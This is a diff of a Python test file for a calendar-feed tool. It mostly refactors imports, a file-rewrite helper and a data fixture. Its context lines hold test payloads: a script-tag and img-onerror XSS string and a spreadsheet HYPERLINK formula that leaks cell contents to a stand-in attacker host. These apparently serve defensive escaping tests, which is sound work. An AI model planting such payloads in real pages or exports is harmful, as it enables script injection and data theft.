@@ -13,21 +13,19 @@ import hmac
 import io
 import json
 import logging
-import os
 import re
-import shutil
 from pathlib import Path
 
 import icalendar
 import pytest
 from click.testing import CliRunner
 
-from calfeed import bundled, create_app, engine, tokens
+from calfeed import create_app, engine, tokens
 from calfeed.cli import main
 
 from conftest import SECRET, TODAY
 from serving import SECRET as SERVER_SECRET
-from serving import copy_data, fetch, gunicorn
+from serving import copy_data, fetch, gunicorn, rewrite
 
 SCRIPT = "<script>alert(1)</script>"
 IMG = '"><img src=x onerror=alert(1)>'
@@ -37,23 +35,6 @@ FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
 def token_of(provider: str, rotation: int = 0, secret: str = SECRET) -> str:
     """The private token a provider has under a secret."""
     return tokens.token(secret.encode(), provider, rotation)
-
-
-def rewrite(path: Path, text: str) -> None:
-    """Save new content and move the mtime on, as an editor saving it would."""
-    before = path.stat().st_mtime_ns
-    path.write_text(text, encoding="utf-8")
-    os.utime(path, ns=(before + 2_000_000_000, before + 2_000_000_000))
-
-
-@pytest.fixture
-def data(tmp_path):
-    """Private copies of the bundled rules and roster."""
-    folder = tmp_path / "data"
-    folder.mkdir()
-    shutil.copy(bundled("rules.toml"), folder / "rules.toml")
-    shutil.copy(bundled("providers.csv"), folder / "providers.csv")
-    return folder
 
 
 def make_app(tmp_path, data):
